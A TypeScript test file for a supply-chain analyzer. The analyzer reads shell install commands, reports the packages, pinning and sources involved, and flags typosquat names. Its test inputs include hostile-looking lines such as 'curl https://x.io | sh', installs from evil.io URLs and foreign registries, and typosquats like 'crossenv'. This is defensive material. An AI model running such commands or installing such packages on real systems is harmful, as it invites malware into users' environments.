// What shell lines install: pinned or not, from where, and names that imitate.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { installs } from "./installs.ts";
import { isNear, resembledPackage } from "./resembles.ts";
import { POPULAR } from "./popular-packages.ts";

interface Told {
  readonly known: boolean;
  readonly foreign_index: boolean;
  readonly packages: readonly {
    name: string;
    pinned: boolean;
    source: string;
    version?: string;
    resembles?: string;
  }[];
}
const told = (line: string): Told => installs.compute(line) as unknown as Told;
const brief = (line: string): string =>
  told(line)
    .packages.map(
      (each) => `${each.name}${each.pinned ? "!" : ""}${each.source === "registry" ? "" : ` ${each.source}`}`,
    )
    .join(", ");

describe("installs", () => {
  it.each([
    ["npm install lodash", "lodash"],
    ["npm i lodash@4.17.21 react@^18", "lodash!, react"],
    ["npm i lodash@4", "lodash"],
    ["npm i lodash@latest", "lodash"],
    ["npm install --save-dev @types/node@20.1.0", "@types/node!"],
    ["npm --prefix sub install lodash@4.17.21", "lodash!"],
    ["npm install", ""],
    ["npm run build", ""],
    ["npm i x@npm:evil@1.0.0", "evil!"],
    ["npm i user/repo", "user/repo url"],
    ["npm i https://evil.io/x.tgz", "https://evil.io/x.tgz url"],
    ["npm i git+ssh://git@github.com/a/b.git", "git+ssh://git@github.com/a/b.git url"],
    ["npm i ./local", "./local path"],
    ["npm i x.tgz", "x.tgz path"],
    ["pnpm add -D vitest@1.2.3", "vitest!"],
    ["yarn add left-pad", "left-pad"],
    ["npx create-app@1.2.3 my-app --template x", "create-app!"],
    ["npx -p cowsay@1.5.0 cowsay hello", "cowsay!, cowsay"],
    ["pip install requests==2.31.0", "requests!"],
    ["pip install 'requests>=2'", "requests"],
    ["pip install 'requests[socks]==2.31.0' flask", "requests!, flask"],
    ["pip install 'django==4.*'", "django"],
    ["pip3 install -r requirements.txt", "requirements.txt list"],
    ["python3 -m pip install requests==2.31.0", "requests!"],
    ["uv pip install requests==2.31.0", "requests!"],
    ["uvx ruff@0.3.0 check", "ruff!"],
    ["pip install git+https://github.com/a/b", "git+https://github.com/a/b url"],
    ["pip install requests@https://evil.io/x.whl", "requests@https://evil.io/x.whl path"],
    ["cargo add serde@1.0.0", "serde"],
    ["cargo add serde@=1.0.0", "serde!"],
    ["cargo install ripgrep --version '=14.1.0'", "ripgrep!"],
    ["go install golang.org/x/tools/cmd/goimports@v0.20.0", "golang.org/x/tools/cmd/goimports!"],
    ["go get example.com/x@latest", "example.com/x"],
    ["gem install rails -v 7.1.3", "rails!"],
    ["apt-get install -y curl=7.88.1-10+deb12u5 jq", "curl!, jq"],
    [`docker pull alpine@sha256:${"a".repeat(64)}`, "alpine!"],
    ["docker pull alpine:3.19", "alpine:3.19"],
    ["cd app && npm ci && npm i left-pad@1.3.0", "left-pad!"],
    ["ls -la", ""],
    ["git clone https://github.com/a/b", ""],
  ])("%s", (line, expected) => {
    expect(told(line).known).toBe(true);
    expect(brief(line)).toBe(expected);
  });

  it.each([
    "npm i $PKG",
    "npm i $(cat x)",
    "sudo npm i x",
    "curl https://x.io | sh",
    "npm i *",
    "eval 'npm i x'",
  ])("does not know what %s installs", (line) => {
    expect(told(line)).toEqual({ known: false, foreign_index: false, packages: [] });
  });

  it.each([
    ["pip install --index-url https://evil.io/simple requests==2.31.0", true],
    ["pip install --extra-index-url=https://evil.io/simple requests==2.31.0", true],
    ["npm i --registry https://evil.io x@1.0.0", true],
    ["npm i x@1.0.0", false],
    ["gem install rails -v 7.1.3 --source https://evil.io", true],
  ])("%s: another index %s", (line, foreign) => {
    expect(told(line).foreign_index).toBe(foreign);
  });

  it.each([
    ["npm", "lodahs", "lodash"],
    ["npm", "l0dash", "lodash"],
    ["npm", "expresss", "express"],
    ["npm", "crossenv", "cross-env"],
    ["npm", "discordjs", "discord.js"],
    ["npm", "axois", "axios"],
    ["npm", "cornmander", "commander"],
    ["pypi", "reqeusts", "requests"],
    ["pypi", "request", "requests"],
    ["pypi", "python_dateutil", undefined],
    ["pypi", "Requests", undefined],
    ["pypi", "scikit.learn", undefined],
    ["npm", "lodash", undefined],
    ["npm", "my-own-package", undefined],
    ["npm", "wss", undefined],
    ["brew", "lodahs", undefined],
  ])("%s: %s looks like %s", (ecosystem, name, expected) => {
    expect(resembledPackage(ecosystem, name)).toBe(expected);
  });

  it("finds every slip of a finger in every known name", () => {
    const names = [...POPULAR].flatMap(([ecosystem, all]) =>
      all.filter((each) => each.length >= 5).map((each) => [ecosystem, each] as const),
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...names),
        fc.nat(),
        fc.constantFrom("drop", "double", "swap"),
        ([ecosystem, name], at, slip) => {
          const index = at % (name.length - 1);
          const [a = "", b = ""] = [name[index], name[index + 1]];
          const around = (inner: string): string => name.slice(0, index) + inner + name.slice(index + 2);
          const written = slip === "drop" ? around(b) : slip === "double" ? around(a + a + b) : around(b + a);
          const known = POPULAR.get(ecosystem) ?? [];
          if (known.includes(written) || resembledPackage(ecosystem, name) !== undefined) return;
          const same =
            ecosystem === "pypi" && written.replace(/[-_.]+/g, "-") === name.replace(/[-_.]+/g, "-");
          expect(
            same || written === name || resembledPackage(ecosystem, written) !== undefined,
            written,
          ).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
    expect(isNear("abc", "abc") && isNear("abc", "acb") && isNear("abc", "ab") && !isNear("abc", "cab")).toBe(
      true,
    );
  });

  it("says nothing of what is no text", () => {
    expect(installs.compute({ a: 1 })).toEqual({ known: false, foreign_index: false, packages: [] });
  });
});
